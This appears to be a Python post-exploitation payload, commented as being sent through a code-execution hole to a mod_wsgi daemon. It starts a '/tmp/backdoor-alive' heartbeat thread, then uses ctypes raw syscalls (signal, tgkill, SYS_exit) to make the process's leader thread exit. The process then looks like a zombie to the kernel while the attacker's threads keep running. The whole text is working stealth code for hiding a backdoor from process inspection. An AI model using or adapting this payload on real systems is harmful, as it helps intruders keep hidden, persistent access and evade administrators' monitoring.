# Sent to the hole (POST /x): runs in a request thread of a mod_wsgi daemon, as the app user.
# The daemon's main (leader) thread is made to exit alone (the raw exit syscall, from a signal handler run in it):
# the kernel then shows the process as a zombie (state Z, vsize 0, no argv, no exe), its pid, parent (Apache's
# root process) and start time kept, while its other threads go on running the attacker's code.
import builtins
import ctypes
import os
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)


def beat():
    while True:
        with open("/tmp/backdoor-alive", "a") as f:
            f.write("%d pid=%d uid=%d (its leader thread exited)\n" % (time.time(), os.getpid(), os.getuid()))
        time.sleep(2)


threading.Thread(target=beat, daemon=True).start()
HANDLER = ctypes.CFUNCTYPE(None, ctypes.c_int)(lambda sig: libc.syscall(60, 0))  # SYS_exit: this thread only
builtins._zombie_handler = HANDLER  # kept alive
libc.signal(12, HANDLER)  # SIGUSR2, run in the thread it is sent to
libc.syscall(234, os.getpid(), os.getpid(), 12)  # tgkill(pid, tid = pid: the leader, SIGUSR2)
